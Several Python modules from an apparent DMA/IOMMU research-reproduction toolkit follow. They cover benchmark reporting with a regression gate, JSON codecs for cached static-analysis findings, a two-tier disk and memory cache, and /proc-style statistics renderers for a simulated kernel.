        "nr_events": nr_events,
        "rounds": rounds,
        "iotlb_best_s": round(iotlb_s, 6),
        "iotlb_events_per_s": round(nr_events / iotlb_s),
        "page_frag_best_s": round(frag_s, 6),
        "page_frag_events_per_s": round(nr_events / frag_s),
    }


# -- the report --------------------------------------------------------------

def run_benchmarks(*, scale: float = 1.0, corpus_seed: int = 2021,
                   campaign_seeds: int = 16,
                   campaign_scale: float = 0.1,
                   jobs: tuple[int, ...] = (1, 2, 4), rounds: int = 3,
                   kernel_events: int = 50_000,
                   backend: str | None = None,
                   with_backends: bool = True) -> dict:
    """Run every family; returns the ``BENCH_perf.json`` payload.

    *backend* selects the IOMMU model for the campaign and
    kernel-event families (SPADE is static and unaffected). The
    report carries a ``backend`` key only for non-default models, so
    per-backend runs sign into their own history lane and never gate
    against default runs.
    """
    from repro import __version__
    from repro.backends import backend_label

    label = backend_label(backend)
    spade = bench_spade(scale=scale, corpus_seed=corpus_seed)
    campaign = bench_campaign(nr_seeds=campaign_seeds,
                              scale=campaign_scale, jobs=jobs,
                              backend=label)
    kernel = bench_kernel_events(rounds=rounds, nr_events=kernel_events,
                                 backend=label)
    checks = {
        "warm_faster_than_cold":
            spade["warm_disk_s"] < spade["cold_s"],
        "cached_findings_identical": spade["identical"],
    }
    report = {
        "schema": BENCH_SCHEMA,
        "version": __version__,
        "timestamp": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        "spade": spade,
        "campaign": campaign,
        "kernel": kernel,
        "checks": checks,
        "ok": all(checks.values()),
    }
    if with_backends:
        report["backends"] = bench_backends(rounds=rounds)
    if label is not None:
        report["backend"] = label
    return report


def write_report(report: dict, path: str = DEFAULT_OUTPUT) -> None:
    from repro import durability
    durability.atomic_write_json(path, report, indent=2,
                                 sort_keys=True, trailing_newline=True)


def format_report(report: dict) -> str:
    """Human-readable digest of one report."""
    spade = report["spade"]
    kernel = report["kernel"]
    lines = [
        f"SPADE scale={spade['scale']} "
        f"({spade['nr_files']} files, {spade['nr_findings']} findings)",
        f"  uncached    {spade['uncached_s']*1000:10.1f} ms",
        f"  cold+write  {spade['cold_s']*1000:10.1f} ms",
        f"  warm (disk) {spade['warm_disk_s']*1000:10.1f} ms  "
        f"({spade['speedup_disk']}x)",
        f"  warm (mem)  {spade['warm_memory_s']*1000:10.1f} ms  "
        f"({spade['speedup_memory']}x)",
        f"  cached findings identical: {spade['identical']}",
        "campaign throughput "
        f"(scale={report['campaign']['scale']})",
    ]
    for run in report["campaign"]["runs"]:
        ratio = ""
        if "parallel_ratio" in run:
            ratio = f", {run['parallel_ratio']:.2f}x vs jobs=1"
        lines.append(f"  jobs={run['jobs']}  {run['elapsed_s']:8.2f} s"
                     f"  ({run['seeds_per_s']} seeds/s,"
                     f" {run['nr_ok']} ok{ratio})")
    lines += [
        "kernel event rates",
        f"  iotlb      {kernel['iotlb_events_per_s']:>12,} events/s",
        f"  page_frag  {kernel['page_frag_events_per_s']:>12,} events/s",
    ]
    if report.get("backends"):
        lines.append("per-backend iotlb rates "
                     f"({report['backends']['nr_events']} events)")
        for name, model in sorted(
                report["backends"]["models"].items()):
            lines.append(f"  {name:12s} "
                         f"{model['iotlb_events_per_s']:>12,} events/s")
    lines.append(f"checks: {report['checks']}")
    return "\n".join(lines)
