"""JSON codecs for the cacheable SPADE artifacts.

Round-trip fidelity is the contract: for any parsed file or finding
list, ``decode(encode(x))`` must be *observably identical* to ``x`` --
the differential tests compare the re-encoded JSON byte-for-byte and
the rendered Table 2 text, so a lossy codec cannot land.

Decoding routes every :class:`TypeRef` through the intern table
(:func:`repro.core.spade.cparse.TypeRef.intern`), so a warm corpus
shares one object per distinct declared type instead of thousands of
equal copies.
"""

from __future__ import annotations

from repro.core.spade.cparse import (Assignment, CallSite, FunctionDef,
                                     ParsedFile, StructDef, StructField,
                                     TypeRef, VarDecl)
from repro.core.spade.findings import Finding


# -- type references ----------------------------------------------------------

def _encode_typeref(ref: TypeRef | None):
    if ref is None:
        return None
    return [ref.base, ref.is_struct, ref.pointer_level, ref.array_len]


def _decode_typeref(record) -> TypeRef | None:
    if record is None:
        return None
    base, is_struct, pointer_level, array_len = record
    return TypeRef.intern(base, is_struct, pointer_level, array_len)


# -- parsed files -------------------------------------------------------------

def _encode_field(f: StructField) -> list:
    return [f.name, f.line, _encode_typeref(f.type), f.is_func_ptr,
            f.func_ptr_count]


def _decode_field(record) -> StructField:
    name, line, ref, is_func_ptr, count = record
    return StructField(name, line, _decode_typeref(ref),
                       is_func_ptr=is_func_ptr, func_ptr_count=count)


def _encode_var(decl: VarDecl) -> list:
    return [decl.name, _encode_typeref(decl.type), decl.line]


def _decode_var(record) -> VarDecl:
    name, ref, line = record
    return VarDecl(name, _decode_typeref(ref), line)


def _encode_call(call: CallSite) -> list:
    return [call.callee, list(call.args), call.line]


def _decode_call(record) -> CallSite:
    callee, args, line = record
    return CallSite(callee, tuple(args), line)


def _encode_assignment(assign: Assignment) -> list:
    rhs_call = None if assign.rhs_call is None \
        else _encode_call(assign.rhs_call)
    return [assign.lhs, assign.rhs_text, rhs_call, assign.line]


def _decode_assignment(record) -> Assignment:
    lhs, rhs_text, rhs_call, line = record
    decoded = None if rhs_call is None else _decode_call(rhs_call)
    return Assignment(lhs, rhs_text, decoded, line)


def encode_parsed_file(parsed: ParsedFile) -> dict:
    return {
        "path": parsed.path,
        "structs": [
            [s.name, [_encode_field(f) for f in s.fields], s.file, s.line]
            for s in parsed.structs.values()],
        "functions": [
            {"name": func.name,
             "params": [_encode_var(p) for p in func.params],
             "locals": [_encode_var(v) for v in func.locals],
             "assignments": [_encode_assignment(a)
                             for a in func.assignments],
             "calls": [_encode_call(c) for c in func.calls],
             "file": func.file, "line": func.line}
            for func in parsed.functions.values()],
    }


def decode_parsed_file(record: dict) -> ParsedFile:
    parsed = ParsedFile(record["path"])
    for name, fields, file, line in record["structs"]:
        parsed.structs[name] = StructDef(
            name, [_decode_field(f) for f in fields], file, line)
    for func_record in record["functions"]:
        func = FunctionDef(
            func_record["name"],
            [_decode_var(p) for p in func_record["params"]],
            locals=[_decode_var(v) for v in func_record["locals"]],
            assignments=[_decode_assignment(a)
                         for a in func_record["assignments"]],
            calls=[_decode_call(c) for c in func_record["calls"]],
            file=func_record["file"], line=func_record["line"])
        parsed.functions[func.name] = func
    return parsed


# -- findings -----------------------------------------------------------------

def encode_finding(finding: Finding) -> dict:
    return {
        "file": finding.file, "line": finding.line,
        "mapped_expr": finding.mapped_expr,
        "exposures": sorted(finding.exposures),
        "exposed_struct": finding.exposed_struct,
        "direct_callbacks": finding.direct_callbacks,
        "direct_callback_names": list(finding.direct_callback_names),
        "spoofable_callbacks": finding.spoofable_callbacks,
        "allocation_source": finding.allocation_source,
        "trace": list(finding.trace),
    }


def decode_finding(record: dict) -> Finding:
    return Finding(
        record["file"], record["line"], record["mapped_expr"],
        exposures=set(record["exposures"]),
        exposed_struct=record["exposed_struct"],
        direct_callbacks=record["direct_callbacks"],
        direct_callback_names=list(record["direct_callback_names"]),
        spoofable_callbacks=record["spoofable_callbacks"],
        allocation_source=record["allocation_source"],
        trace=list(record["trace"]))


def encode_findings(findings: list[Finding]) -> list[dict]:
    return [encode_finding(f) for f in findings]


def decode_findings(records: list[dict]) -> list[Finding]:
    return [decode_finding(r) for r in records]
