"""Bench trajectory tracking: ``BENCH_history.jsonl`` + regression gate.

``repro-dma bench`` used to overwrite ``BENCH_perf.json`` and forget
the previous run, so the "perf trajectory" the roadmap promises was
one point long.  This module turns every bench run into an appended
JSONL record and turns ``bench --check`` into a gate: a tracked metric
more than 25% worse than the *rolling median* of comparable prior runs
fails the run (exit 1 at the CLI).

Comparability matters: a smoke-sized CI bench must never be judged
against a full-scale dev-machine history.  Every record therefore
carries a *config signature* (scale, corpus seed, campaign sizing,
kernel event count), and the gate only compares records whose
signature matches the current run's.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro import durability

HISTORY_SCHEMA = 1

DEFAULT_HISTORY = "BENCH_history.jsonl"

#: fail when a metric is more than this fraction worse than the median
DEFAULT_THRESHOLD = 0.25

#: rolling window: the median is taken over the last N comparable runs
DEFAULT_WINDOW = 10

#: tracked wall-clock timings (seconds; lower is better)
LOWER_IS_BETTER = ("spade_uncached_s", "spade_cold_s",
                   "spade_warm_disk_s", "spade_warm_memory_s")

#: tracked rates (per second; higher is better)
HIGHER_IS_BETTER = ("iotlb_events_per_s", "page_frag_events_per_s")

#: ``bench --check`` fails when the jobs=N/jobs=1 campaign throughput
#: ratio drops below this (0 disables the gate)
DEFAULT_MIN_PARALLEL_RATIO = 1.5


def config_signature(report: dict) -> str:
    """Fingerprint of the knobs a bench run's numbers depend on.

    Non-default-backend runs append a ``backend=`` component, so
    ``bench --check`` only ever gates a run against prior runs of the
    *same* IOMMU model (per-backend timing profiles differ by design).
    Default runs keep the pre-backend signature byte-identical, so
    existing BENCH_history.jsonl trajectories keep matching.
    """
    spade = report.get("spade", {})
    campaign = report.get("campaign", {})
    kernel = report.get("kernel", {})
    jobs = "x".join(str(run.get("jobs")) for run in
                    campaign.get("runs", ()))
    signature = (f"scale={spade.get('scale')}"
                 f",corpus_seed={spade.get('corpus_seed')}"
                 f",campaign_scale={campaign.get('scale')}"
                 f",campaign_jobs={jobs}"
                 f",kernel_events={kernel.get('nr_events')}")
    backend = report.get("backend")
    if backend:
        signature += f",backend={backend}"
    return signature


def tracked_metrics(report: dict) -> dict[str, float]:
    """Flatten one bench report to the gated metric set.

    Campaign seeds-per-second rides along in the record for trend
    plots but is *not* gated: multiprocess scheduling jitter at
    4-seed batches would make a 25% threshold flap.
    """
    spade = report.get("spade", {})
    kernel = report.get("kernel", {})
    metrics = {
        "spade_uncached_s": spade.get("uncached_s"),
        "spade_cold_s": spade.get("cold_s"),
        "spade_warm_disk_s": spade.get("warm_disk_s"),
        "spade_warm_memory_s": spade.get("warm_memory_s"),
        "iotlb_events_per_s": kernel.get("iotlb_events_per_s"),
        "page_frag_events_per_s": kernel.get("page_frag_events_per_s"),
    }
    rate_by_jobs: dict[int, float] = {}
    for run in report.get("campaign", {}).get("runs", ()):
        metrics[f"campaign_seeds_per_s_jobs{run.get('jobs')}"] = \
            run.get("seeds_per_s")
        if run.get("jobs") == 1:
            # coverage observability lane: recorded for trend plots
            # and regression triage, deliberately absent from the
            # LOWER/HIGHER_IS_BETTER gate lists (coverage depends on
            # the corpus, not on code speed -- cross-gating would
            # make unrelated corpus changes fail perf CI)
            metrics["campaign_coverage_features"] = \
                run.get("coverage_features")
            metrics["campaign_coverage_features_per_seed"] = \
                run.get("coverage_features_per_seed")
        if isinstance(run.get("jobs"), int) \
                and isinstance(run.get("seeds_per_s"), (int, float)):
            rate_by_jobs[run["jobs"]] = float(run["seeds_per_s"])
    # the parallel-scaling signal, one ratio per parallel lane plus
    # the headline ``campaign_parallel_ratio`` (top lane over jobs=1).
    # < 1.0 means adding workers made the campaign *slower*; the
    # headline ratio is hard-gated by ``bench --check`` (see
    # :func:`parallel_ratio_gate`).
    if len(rate_by_jobs) >= 2 and rate_by_jobs.get(1):
        for nr_jobs, rate in rate_by_jobs.items():
            if nr_jobs != 1:
                metrics[f"campaign_parallel_ratio_jobs{nr_jobs}"] = \
                    round(rate / rate_by_jobs[1], 4)
        top_jobs = max(rate_by_jobs)
        if top_jobs != 1:
            metrics["campaign_parallel_ratio"] = round(
                rate_by_jobs[top_jobs] / rate_by_jobs[1], 4)
    return {name: float(value) for name, value in metrics.items()
            if isinstance(value, (int, float))}


def parallel_scaling_warning(record: dict) -> str | None:
    """A warning line when jobs=N ran slower than jobs=1, else None."""
    ratio = record.get("metrics", {}).get("campaign_parallel_ratio")
    if not isinstance(ratio, (int, float)) or ratio >= 1.0:
        return None
    jobs = [name.split("jobs")[-1] for name in record.get("metrics", {})
            if name.startswith("campaign_seeds_per_s_jobs")
            and not name.endswith("jobs1")]
    label = f"jobs={jobs[0]}" if len(jobs) == 1 else "parallel"
    return (f"bench check: warning: {label} campaign is slower than "
            f"jobs=1 (ratio {ratio:.2f}); parallel scaling regression")


def parallel_ratio_gate(record: dict, *,
                        min_ratio: float = DEFAULT_MIN_PARALLEL_RATIO
                        ) -> str | None:
    """The hard parallel-scaling gate behind ``bench --check``.

    Returns the failure line when the record's headline
    ``campaign_parallel_ratio`` is below *min_ratio*, else None.
    ``min_ratio <= 0`` disables the gate; a record with no ratio
    (single-lane bench, e.g. ``--jobs 1``) passes -- there is nothing
    to gate. This is how the jobs=N-slower-than-jobs=1 regression the
    warm-worker runner fixed can never silently return.
    """
    if min_ratio <= 0:
        return None
    ratio = record.get("metrics", {}).get("campaign_parallel_ratio")
    if not isinstance(ratio, (int, float)) or ratio >= min_ratio:
        return None
    return (f"bench check: FAIL: campaign parallel ratio {ratio:.2f} "
            f"below the required {min_ratio:.2f} (jobs=N seeds/s over "
            f"jobs=1); pass --min-parallel-ratio 0 only on known "
            f"single-core machines")


def history_record(report: dict) -> dict:
    """One appendable JSONL record derived from a bench report."""
    record = {
        "schema": HISTORY_SCHEMA,
        "timestamp": report.get("timestamp"),
        "version": report.get("version"),
        "signature": config_signature(report),
        "ok": report.get("ok"),
        "metrics": tracked_metrics(report),
    }
    if report.get("backend"):
        record["backend"] = report["backend"]
    return record


def append_history(path: str, record: dict) -> None:
    """Journaled append: newline-guarded and checksummed, so a bench
    run killed mid-append can never corrupt the *next* run's record,
    and ``bench --check`` can tell a torn tail from a bit flip."""
    durability.append_jsonl(path, record)


def load_history(path: str, *, signature: str | None = None) -> list[dict]:
    """Records from *path*, oldest first.

    A torn **trailing** line (the writer was killed mid-append) is
    healed with one :class:`UserWarning` naming its byte offset --
    the same tolerance ``trace.export.load_jsonl`` applies -- instead
    of failing the ``bench --check`` gate; other corrupt lines are
    skipped. With *signature*, only records from comparable
    configurations are returned.
    """
    records = []
    try:
        rows = durability.replay_jsonl(path, warn=True)
    except OSError:
        return []
    for _lineno, record in rows:
        if record.get("schema") != HISTORY_SCHEMA:
            continue
        if signature is not None \
                and record.get("signature") != signature:
            continue
        records.append(record)
    return records


def _median(values: list[float]) -> float:
    ordered = sorted(values)
    mid = len(ordered) // 2
    if len(ordered) % 2:
        return ordered[mid]
    return (ordered[mid - 1] + ordered[mid]) / 2


@dataclass
class Regression:
    """One tracked metric that breached the threshold."""

    metric: str
    value: float
    median: float
    ratio: float          # value/median (times) or median/value (rates)
    direction: str        # "slower" or "lower-rate"

    def describe(self) -> str:
        return (f"{self.metric}: {self.value:g} vs rolling median "
                f"{self.median:g} ({self.ratio:.2f}x {self.direction})")


def check_regressions(record: dict, history: list[dict], *,
                      threshold: float = DEFAULT_THRESHOLD,
                      window: int = DEFAULT_WINDOW) -> list[Regression]:
    """Tracked metrics of *record* vs the rolling median of *history*.

    *history* must already be signature-filtered (see
    :func:`load_history`); an empty history gates nothing.
    """
    regressions = []
    recent = history[-window:]
    current = record.get("metrics", {})
    for name in (*LOWER_IS_BETTER, *HIGHER_IS_BETTER):
        value = current.get(name)
        if value is None:
            continue
        priors = [r["metrics"][name] for r in recent
                  if isinstance(r.get("metrics", {}).get(name),
                                (int, float))]
        if not priors:
            continue
        median = _median([float(p) for p in priors])
        if median <= 0:
            continue
        if name in LOWER_IS_BETTER:
            if value > median * (1 + threshold):
                regressions.append(Regression(
                    metric=name, value=value, median=median,
                    ratio=value / median, direction="slower"))
        else:
            if value < median * (1 - threshold):
                regressions.append(Regression(
                    metric=name, value=value, median=median,
                    ratio=median / value, direction="lower-rate"))
    return regressions


def format_regressions(regressions: list[Regression], *,
                       threshold: float = DEFAULT_THRESHOLD) -> str:
    if not regressions:
        return "bench check: OK (no tracked metric regressed)"
    lines = [f"bench check: {len(regressions)} regression(s) "
             f"past the {int(threshold * 100)}% gate"]
    lines += [f"  {r.describe()}" for r in regressions]
    return "\n".join(lines)
