"""The two-tier content-addressed cache behind ``repro.perfcache``.

Layout of one cache directory::

    <dir>/CACHE.json                     marker + schema version
    <dir>/<namespace>/<kk>/<key>.json    one entry per content key

Keys are hex SHA-256 digests of whatever identifies the computation
(source bytes, analyzer versions, parameters); ``<kk>`` is the first
two hex characters, which keeps directories small at corpus scale.

Tier 1 is an in-process dict holding the *decoded objects* -- a hit
costs one dict lookup and returns the very same parse tree or finding
list the previous caller got. Tier 2 is on disk, JSON-per-entry and
sqlite-free, so concurrent campaign workers can share it with nothing
but atomic renames (``os.replace``): two workers racing on the same
key both write valid files and the last rename wins.

Failure policy: the cache must never turn a working analysis into a
crash. A corrupted or truncated entry, an undecodable payload, or any
filesystem error on read/write counts in :class:`CacheStats` and falls
back to recomputing silently.
"""

from __future__ import annotations

import hashlib
import json
import os
import warnings
from dataclasses import dataclass, field

from repro import durability, faults

#: bump to invalidate every on-disk entry at once (wire-format changes)
CACHE_SCHEMA = 1

MARKER_NAME = "CACHE.json"

#: every namespace the repo's callers use (``cache clear`` removes these)
NAMESPACES = ("parse", "findings", "corpus")

#: tier-1 bound: enough for several full corpora of parse trees
DEFAULT_MEMORY_ENTRIES = 8192

#: subdirectory holding per-process persisted CacheStats snapshots
STATS_DIR = "stats"


def content_key(*parts: str) -> str:
    """Hex SHA-256 over the NUL-joined *parts* (order-sensitive)."""
    digest = hashlib.sha256()
    for i, part in enumerate(parts):
        if i:
            digest.update(b"\x00")
        digest.update(part.encode("utf-8"))
    return digest.hexdigest()


def file_digest(content: str) -> str:
    """Hex SHA-256 of one source file's text."""
    return hashlib.sha256(content.encode("utf-8")).hexdigest()


@dataclass
class CacheStats:
    """Per-:class:`PerfCache` effectiveness counters."""

    memory_hits: int = 0
    disk_hits: int = 0
    misses: int = 0
    stores: int = 0
    bypasses: int = 0        # cache disabled -> straight compute
    corrupt: int = 0         # undecodable disk entries (recomputed)
    write_errors: int = 0    # disk stores that failed (ignored)

    @property
    def hits(self) -> int:
        return self.memory_hits + self.disk_hits

    @property
    def lookups(self) -> int:
        return self.hits + self.misses

    def to_json(self) -> dict:
        return {"memory_hits": self.memory_hits,
                "disk_hits": self.disk_hits, "misses": self.misses,
                "stores": self.stores, "bypasses": self.bypasses,
                "corrupt": self.corrupt,
                "write_errors": self.write_errors}


@dataclass
class NamespaceUsage:
    """Disk-tier footprint of one namespace."""

    namespace: str
    entries: int = 0
    bytes: int = 0


class PerfCache:
    """Two-tier cache; ``directory=None`` keeps only the memory tier.

    ``enabled=False`` turns every :meth:`cached` call into a plain
    ``compute()`` (the ``REPRO_CACHE=off`` escape hatch), which is what
    the differential-verification mode uses as its "cold" side.
    """

    def __init__(self, directory: str | None = None, *,
                 enabled: bool = True,
                 memory_entries: int = DEFAULT_MEMORY_ENTRIES) -> None:
        self.directory = directory
        self.enabled = enabled
        #: set once the disk tier proves unusable (read-only directory,
        #: ENOSPC): the cache degrades to memory-only instead of paying
        #: a failing syscall per entry -- and instead of aborting a run
        self.degraded = False
        self._memory: dict[tuple[str, str], object] = {}
        self._memory_entries = max(1, memory_entries)
        self.stats = CacheStats()
        # Each process overwrites only its own stats file, so campaign
        # workers persist concurrently without any locking.
        self._stats_name = f"STATS-{os.getpid()}-{id(self):x}.json"

    # -- the one entry point callers use -------------------------------------

    def cached(self, namespace: str, key: str, compute, *,
               encode=None, decode=None):
        """Return the cached value for (namespace, key) or compute it.

        ``encode(obj) -> json-able`` / ``decode(payload) -> obj`` gate
        the disk tier; without them the entry lives in memory only.
        """
        if not self.enabled:
            self.stats.bypasses += 1
            return compute()
        memory_key = (namespace, key)
        memory = self._memory
        if memory_key in memory:
            self.stats.memory_hits += 1
            return memory[memory_key]
        if self._disk_usable and decode is not None:
            payload = self._disk_read(namespace, key)
            if payload is not None:
                try:
                    obj = decode(payload)
                except Exception:
                    self.stats.corrupt += 1
                else:
                    self.stats.disk_hits += 1
                    self._memory_store(memory_key, obj)
                    return obj
        self.stats.misses += 1
        obj = compute()
        self._memory_store(memory_key, obj)
        if self._disk_usable and encode is not None:
            self._disk_write(namespace, key, encode(obj))
        self.stats.stores += 1
        return obj

    # -- memory tier ---------------------------------------------------------

    def _memory_store(self, memory_key: tuple[str, str], obj) -> None:
        memory = self._memory
        while len(memory) >= self._memory_entries:
            # dicts iterate in insertion order: drop the oldest entry.
            # Server worker threads share one cache, so the victim can
            # vanish (or the dict resize) between the len() check and
            # the delete -- losing that race is fine, the entry is
            # gone either way.
            try:
                del memory[next(iter(memory))]
            except (KeyError, RuntimeError, StopIteration):
                break
        memory[memory_key] = obj

    @property
    def nr_memory_entries(self) -> int:
        return len(self._memory)

    def drop_memory(self) -> None:
        """Forget the object tier (the disk tier survives)."""
        self._memory.clear()

    # -- disk tier -----------------------------------------------------------

    @property
    def _disk_usable(self) -> bool:
        return self.directory is not None and not self.degraded

    def _degrade(self, exc: OSError) -> None:
        """Disable the disk tier after a genuine filesystem failure.

        One warning per cache: every later lookup silently recomputes
        or hits the memory tier, which is correct, just colder.
        """
        if self.degraded:
            return
        self.degraded = True
        warnings.warn(
            f"perfcache: disk tier at {self.directory!r} is "
            f"unusable ({exc}); continuing with the in-memory cache "
            f"only", RuntimeWarning, stacklevel=4)

    def _entry_path(self, namespace: str, key: str) -> str:
        return os.path.join(self.directory, namespace, key[:2],
                            f"{key}.json")

    def _disk_read(self, namespace: str, key: str):
        try:
            if "perfcache.read" in faults.active_sites \
                    and faults.fires("perfcache.read"):
                raise faults.InjectedCacheError("perfcache.read")
            with open(self._entry_path(namespace, key),
                      encoding="utf-8") as handle:
                record = json.load(handle)
            if "perfcache.corrupt" in faults.active_sites \
                    and faults.fires("perfcache.corrupt"):
                # a flipped bit somewhere in the entry: model it as a
                # key mismatch, which the validation below rejects
                record["key"] = f"corrupted-{key[:8]}"
            if record.get("schema") != CACHE_SCHEMA \
                    or record.get("key") != key:
                self.stats.corrupt += 1
                return None
            return record["data"]
        except FileNotFoundError:
            return None
        except (OSError, ValueError, KeyError):
            self.stats.corrupt += 1
            return None

    def _disk_write(self, namespace: str, key: str, data) -> None:
        path = self._entry_path(namespace, key)
        record = {"schema": CACHE_SCHEMA, "key": key, "data": data}
        try:
            if "perfcache.write" in faults.active_sites \
                    and faults.fires("perfcache.write"):
                raise faults.InjectedCacheError("perfcache.write")
            self._write_marker()
            durability.atomic_write_json(path, record,
                                         separators=(",", ":"))
        except (OSError, TypeError, ValueError) as exc:
            self.stats.write_errors += 1
            if isinstance(exc, OSError) \
                    and not isinstance(exc, faults.InjectedFault):
                self._degrade(exc)

    def _write_marker(self) -> None:
        marker = os.path.join(self.directory, MARKER_NAME)
        if not os.path.exists(marker):
            durability.atomic_write_json(
                marker, {"schema": CACHE_SCHEMA,
                         "tool": "repro-dma perfcache"})

    # -- persisted stats (surfaced by ``repro-dma cache stats``) --------------

    def persist_stats(self) -> bool:
        """Snapshot this process's :class:`CacheStats` into the cache
        directory (atomic overwrite of our own file). Returns True on
        success; a memory-only or unwritable cache returns False."""
        if not self._disk_usable:
            return False
        root = os.path.join(self.directory, STATS_DIR)
        try:
            self._write_marker()
            durability.atomic_write_json(
                os.path.join(root, self._stats_name),
                {"schema": CACHE_SCHEMA, "pid": os.getpid(),
                 "stats": self.stats.to_json()})
        except (OSError, TypeError, ValueError):
            return False
        return True

    def aggregate_persisted_stats(self) -> CacheStats:
        """Sum every persisted per-process snapshot into one
        :class:`CacheStats` (torn or foreign files are skipped)."""
        total = CacheStats()
        if self.directory is None:
            return total
        root = os.path.join(self.directory, STATS_DIR)
        try:
            names = sorted(os.listdir(root))
        except OSError:
            return total
        for name in names:
            if not (name.startswith("STATS-") and name.endswith(".json")):
                continue
            try:
                with open(os.path.join(root, name),
                          encoding="utf-8") as handle:
                    record = json.load(handle)
                fields = record["stats"]
            except (OSError, ValueError, KeyError, TypeError):
                continue
            if record.get("schema") != CACHE_SCHEMA:
                continue
            for field_name in ("memory_hits", "disk_hits", "misses",
                               "stores", "bypasses", "corrupt",
                               "write_errors"):
                value = fields.get(field_name, 0)
                if isinstance(value, int) and value >= 0:
                    setattr(total, field_name,
                            getattr(total, field_name) + value)
        return total

    # -- maintenance (the ``repro-dma cache`` subcommand) ---------------------

    def disk_usage(self) -> list[NamespaceUsage]:
        """Entry counts and byte totals per namespace on disk."""
        out = []
        if self.directory is None or not os.path.isdir(self.directory):
            return out
        for namespace in NAMESPACES:
            usage = NamespaceUsage(namespace)
            root = os.path.join(self.directory, namespace)
            for dirpath, _dirnames, filenames in os.walk(root):
                for name in filenames:
                    if not name.endswith(".json"):
                        continue
                    usage.entries += 1
                    try:
                        usage.bytes += os.path.getsize(
                            os.path.join(dirpath, name))
                    except OSError:
                        pass
            out.append(usage)
        return out

    def is_cache_directory(self) -> bool:
        """True when the directory carries our marker (or is absent)."""
        if self.directory is None or not os.path.isdir(self.directory):
            return True
        if os.path.exists(os.path.join(self.directory, MARKER_NAME)):
            return True
        # an empty directory is fine to adopt
        return not os.listdir(self.directory)

    def clear_disk(self) -> int:
        """Remove every namespace entry; returns entries removed.

        Only touches the namespace subdirectories and the marker --
        never unrelated files someone else put next to them.
        """
        removed = 0
        if self.directory is None or not os.path.isdir(self.directory):
            return removed
        for namespace in (*NAMESPACES, STATS_DIR):
            root = os.path.join(self.directory, namespace)
            for dirpath, dirnames, filenames in os.walk(root,
                                                        topdown=False):
                for name in filenames:
                    try:
                        os.unlink(os.path.join(dirpath, name))
                        removed += 1
                    except OSError:
                        pass
                for name in dirnames:
                    try:
                        os.rmdir(os.path.join(dirpath, name))
                    except OSError:
                        pass
            try:
                os.rmdir(root)
            except OSError:
                pass
        try:
            os.unlink(os.path.join(self.directory, MARKER_NAME))
        except OSError:
            pass
        self.drop_memory()
        return removed
