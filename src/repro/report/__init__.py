"""Rendering helpers for experiment output."""

from repro.report.tables import PaperComparison, render_table
from repro.report.timeline import (render_invalidation_report,
                                   render_timeline, render_trace_summary)

__all__ = ["PaperComparison", "render_table", "render_timeline",
           "render_trace_summary", "render_invalidation_report"]
