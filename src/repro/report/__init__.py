"""Rendering helpers for experiment output."""

from repro.report.tables import PaperComparison, render_table

__all__ = ["PaperComparison", "render_table"]
