"""Rendering helpers for experiment output."""

from repro.report.procfs import (render_cache_stats,
                                 render_coverage_stats,
                                 render_dkasan_stats,
                                 render_iommu_stats, render_meminfo,
                                 render_netdev, render_serve_stats)
from repro.report.tables import PaperComparison, render_table
from repro.report.timeline import (render_invalidation_report,
                                   render_timeline, render_trace_summary)

__all__ = ["PaperComparison", "render_table", "render_timeline",
           "render_trace_summary", "render_invalidation_report",
           "render_meminfo", "render_iommu_stats", "render_netdev",
           "render_dkasan_stats", "render_cache_stats",
           "render_coverage_stats", "render_serve_stats"]
