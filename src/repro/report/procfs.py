"""``/proc``-style snapshot renderers for the metrics layer.

The registry's Prometheus/JSON exports are machine food; these
renderers are the human view -- the same resident stats structs
formatted the way a kernel developer would expect to read them:
``render_meminfo`` after ``/proc/meminfo``, ``render_netdev`` after
``/proc/net/dev``, and ``iommu``/``dkasan``/``cache`` stat blocks in
the two-column style of ``/proc/<subsystem>/stats`` files.

Everything here is pull-model and read-only: renderers take the live
objects (a booted :class:`~repro.sim.kernel.Kernel`, a
:class:`~repro.core.dkasan.DKasan`) and never mutate them.
"""

from __future__ import annotations

from repro.mem.phys import PAGE_SIZE

#: width of the name column in two-column stat blocks
_NAME_WIDTH = 24


def _row(name: str, value, unit: str = "") -> str:
    suffix = f" {unit}" if unit else ""
    return f"{name + ':':<{_NAME_WIDTH}}{value:>12}{suffix}"


def render_meminfo(kernel) -> str:
    """An allocator snapshot in the shape of ``/proc/meminfo``."""
    buddy = kernel.buddy
    slab = kernel.slab
    frag_allocs = frag_frees = frag_refills = frag_live = 0
    for cache in kernel.page_frag.caches():
        frag_allocs += cache.nr_allocs
        frag_frees += cache.nr_frees
        frag_refills += cache.nr_refills
        frag_live += cache.nr_live_frags
    skb = kernel.skb_alloc.stats
    lines = [
        "meminfo:",
        _row("MemTotal", kernel.phys.size_bytes // 1024, "kB"),
        _row("MemFree", buddy.nr_free_pages * PAGE_SIZE // 1024, "kB"),
        _row("BuddyAllocs", buddy.nr_allocs),
        _row("BuddyFrees", buddy.nr_frees),
        _row("SlabKmallocs", slab.nr_kmallocs),
        _row("SlabKfrees", slab.nr_kfrees),
        _row("SlabLiveObjects", slab.nr_live_objects),
        _row("PageFragAllocs", frag_allocs),
        _row("PageFragFrees", frag_frees),
        _row("PageFragRefills", frag_refills),
        _row("PageFragLive", frag_live),
        _row("SkbAllocs", skb.skb_allocs),
        _row("SkbFrees", skb.skb_frees),
        _row("SkbRxBufferAllocs", skb.rx_buffer_allocs),
    ]
    return "\n".join(lines)


def render_iommu_stats(kernel) -> str:
    """IOMMU / IOTLB / invalidation-policy counters as a stat block."""
    from repro.backends import backend_label

    iommu = kernel.iommu
    iotlb = iommu.iotlb.stats
    stats = iommu.stats
    inv = iommu.policy.stats
    # the header grows a backend tag only off the default model, so
    # the pre-backend snapshot text stays byte-identical
    label = backend_label(getattr(iommu, "backend", None))
    header = f"iommu_stats: (mode={iommu.mode})" if label is None \
        else f"iommu_stats: (mode={iommu.mode} backend={label})"
    lines = [
        header,
        _row("IotlbHits", iotlb.hits),
        _row("IotlbMisses", iotlb.misses),
        _row("IotlbStaleHits", iotlb.stale_hits),
        _row("IotlbInvalidations", iotlb.invalidations),
        _row("IotlbGlobalFlushes", iotlb.global_flushes),
        _row("IotlbEvictions", iotlb.evictions),
        _row("IotlbEntries", iommu.iotlb.nr_entries),
        _row("DeviceReads", stats.device_reads),
        _row("DeviceWrites", stats.device_writes),
        _row("BytesRead", stats.bytes_read),
        _row("BytesWritten", stats.bytes_written),
        _row("Faults", stats.faults),
        _row("StaleTranslations", stats.stale_translations),
        _row("Unmaps", inv.unmaps),
